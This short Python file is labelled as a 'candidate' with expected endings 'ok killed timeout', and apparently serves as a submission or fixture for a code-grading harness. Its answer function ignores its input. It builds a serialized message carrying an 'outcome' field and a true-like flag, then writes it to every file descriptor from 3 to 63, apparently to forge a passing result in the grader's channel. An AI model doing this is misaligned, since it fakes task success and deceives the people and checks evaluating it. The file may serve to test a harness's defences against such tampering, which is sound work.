# role: candidate
# ends: ok killed timeout
import os


def make_frame(body):
    return len(body).to_bytes(4, "little") + body


def answer(number):
    encode_text = lambda text: b"s" + len(text).to_bytes(4, "little") + text
    body = b"l" + (5).to_bytes(4, "little") + b"b" + (16).to_bytes(4, "little") + bytes(16)
    body += encode_text(b"outcome") + b"i\x01\x00\x00\x00\x00" + b"T" + encode_text(b"")
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, make_frame(body) * 3)
        except OSError:
            pass
    return 0
